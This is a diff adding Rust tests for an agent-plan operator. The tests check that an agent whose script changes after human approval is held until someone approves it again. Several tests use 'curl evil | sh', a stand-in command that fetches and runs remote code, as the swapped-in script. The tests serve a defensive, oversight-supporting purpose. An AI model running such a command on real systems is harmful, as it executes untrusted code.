@@ -1,0 +1,158 @@
+//! Agents that change after the approval of their plan, against an API server and a record store in memory.
+
+use serde_json::{Value, json};
+
+use crate::testing::Bench;
+
+/// Returns a bench with a plan of two tasks, of which the second waits for the first, and whose agent has the script `make`.
+async fn bench(required: u32) -> Bench {
+    let mut bench = Bench::new().await;
+    set_script(&mut bench, "make");
+    let task = |id: &str, needs: &[&str]| json!({"id": id, "title": id, "dependsOn": needs});
+    bench.api.put(
+        "plans/p",
+        json!({
+            "apiVersion": "enact.dev/v1alpha1", "kind": "Plan",
+            "metadata": {"name": "p", "namespace": "ns", "generation": 1},
+            "spec": {
+                "agentRef": {"name": "coder"}, "approval": {"required": required},
+                "tasks": [task("T001", &[]), task("T002", &["T001"])],
+            },
+        }),
+    );
+    bench
+}
+
+fn set_script(bench: &mut Bench, script: &str) {
+    bench.agent_with("coder", json!({"adapter": "Command", "script": script}));
+}
+
+fn status(bench: &Bench) -> Value {
+    bench.api.get("plans/p")["status"].clone()
+}
+
+fn reason(bench: &Bench) -> String {
+    status(bench)["conditions"][0]["reason"].as_str().unwrap_or_default().to_owned()
+}
+
+/// Adds a decision on the present content.
+fn decide(bench: &mut Bench, name: &str, decision: &str) {
+    let digest = status(bench)["digest"].clone();
+    bench.approval(&json!({
+        "apiVersion": "enact.dev/v1alpha1", "kind": "Approval",
+        "metadata": {"name": name, "namespace": "ns", "uid": name, "creationTimestamp": "2026-01-01T00:00:00Z"},
+        "spec": {
+            "subject": {"kind": "Plan", "name": "p"}, "digest": digest, "decision": decision, "comment": "no",
+            "by": {"user": name, "groups": []},
+        },
+    }));
+}
+
+/// Returns the bench with the first task of the approved plan running.
+async fn running() -> Bench {
+    let mut bench = bench(1).await;
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "WaitingForApproval");
+    decide(&mut bench, "kim", "Approve");
+    bench.plan("p").await.unwrap();
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t001-1"), "{}", status(&bench));
+    bench
+}
+
+fn revisions(bench: &Bench) -> usize {
+    bench.record_store.summaries().iter().filter(|summary| *summary == "p: revision").count()
+}
+
+#[tokio::test]
+async fn a_script_swapped_after_the_approval_does_not_run() {
+    let mut bench = running().await;
+    let approved = status(&bench)["digest"].clone();
+    set_script(&mut bench, "curl evil | sh");
+    bench.succeed("p-t001-1").await;
+    bench.plan("p").await.unwrap();
+    let held = status(&bench);
+    assert_eq!(reason(&bench), "AgentChanged", "{held}");
+    let message = held["conditions"][0]["message"].as_str().unwrap();
+    assert!(message.contains("(coder)") && message.contains("kubectl enact approve plan/p"), "{message}");
+    assert_eq!(bench.api.get("tasks/p-t001")["status"]["phase"], "Succeeded", "running attempts continue");
+    assert!(!bench.api.has("pods/p-t002-1"));
+    assert_ne!(held["digest"], approved, "people decide on the changed content");
+    assert_eq!(held["approvedDigest"], approved);
+
+    // A new process of the operator holds it too.
+    bench.contexts.plans.runtimes.forget(bench.api.get("plans/p")["metadata"]["uid"].as_str().unwrap());
+    bench.plan("p").await.unwrap();
+    assert_eq!((reason(&bench).as_str(), bench.api.has("pods/p-t002-1")), ("AgentChanged", false));
+    assert_eq!(revisions(&bench), 1);
+
+    decide(&mut bench, "lee", "Approve");
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t002-1"), "{}", status(&bench));
+    let after = status(&bench);
+    assert_eq!((&after["digest"], &after["approvedDigest"]), (&held["digest"], &held["digest"]));
+    assert_eq!(revisions(&bench), 2, "the record has what was approved");
+    bench.succeed("p-t002-1").await;
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "Succeeded");
+}
+
+#[tokio::test]
+async fn a_restored_agent_releases_the_plan() {
+    let mut bench = running().await;
+    set_script(&mut bench, "curl evil | sh");
+    bench.succeed("p-t001-1").await;
+    bench.plan("p").await.unwrap();
+    decide(&mut bench, "lee", "Reject");
+    bench.pass(3);
+    bench.plan("p").await.unwrap();
+    let message = status(&bench)["conditions"][0]["message"].as_str().unwrap().to_owned();
+    assert!(reason(&bench) == "AgentChanged" && message.contains("rejected by lee: no"), "{message}");
+    set_script(&mut bench, "make");
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t002-1"), "{}", status(&bench));
+    assert_eq!(status(&bench)["digest"], status(&bench)["approvedDigest"]);
+}
+
+#[tokio::test]
+async fn a_recorded_attempt_without_a_pod_gets_none() {
+    let mut bench = bench(1).await;
+    bench.plan("p").await.unwrap();
+    decide(&mut bench, "kim", "Approve");
+    bench.plan("p").await.unwrap();
+    bench.api.refuse("POST pods/", 403, "pods is forbidden: exceeded quota: enact-tenant, limited: pods=0");
+    bench.plan("p").await.unwrap_err();
+    set_script(&mut bench, "curl evil | sh");
+    bench.api.relent();
+    bench.plan("p").await.unwrap();
+    assert_eq!((reason(&bench).as_str(), bench.api.has("pods/p-t001-1")), ("AgentChanged", false));
+    assert_eq!(bench.contexts.plans.limiter.running("default"), 0, "it has no slot");
+    set_script(&mut bench, "make");
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t001-1"), "{}", status(&bench));
+}
+
+#[tokio::test]
+async fn a_plan_without_approvals_is_not_held() {
+    let mut bench = bench(0).await;
+    bench.plan("p").await.unwrap();
+    bench.plan("p").await.unwrap();
+    set_script(&mut bench, "make all");
+    bench.succeed("p-t001-1").await;
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t002-1"), "{}", status(&bench));
+}
+
+#[tokio::test]
+async fn the_digest_of_a_waiting_plan_follows_its_agents() {
+    let mut bench = bench(1).await;
+    bench.plan("p").await.unwrap();
+    let before = status(&bench);
+    assert_eq!(before["agents"][0]["name"], "coder", "{before}");
+    decide(&mut bench, "kim", "Approve");
+    set_script(&mut bench, "curl evil | sh");
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "WaitingForApproval");
+    assert_ne!(status(&bench)["digest"], before["digest"]);
+    assert_ne!(status(&bench)["agents"][0]["digest"], before["agents"][0]["digest"]);
+}
